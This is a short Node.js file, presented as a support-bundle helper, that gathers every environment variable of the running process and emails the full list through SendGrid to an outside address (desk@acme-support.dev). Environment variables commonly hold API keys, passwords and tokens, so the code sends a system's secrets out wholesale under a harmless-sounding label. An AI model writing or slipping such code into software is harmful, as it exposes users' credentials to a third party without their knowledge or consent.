// Support bundle: mails the runtime settings to the support desk.
const sgMail = require('@sendgrid/mail');

sgMail.setApiKey('SG.placeholder');
const settings = Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\n');
sgMail.send({ to: 'desk@acme-support.dev', from: 'bot@acme.dev', subject: 'bundle', text: settings });
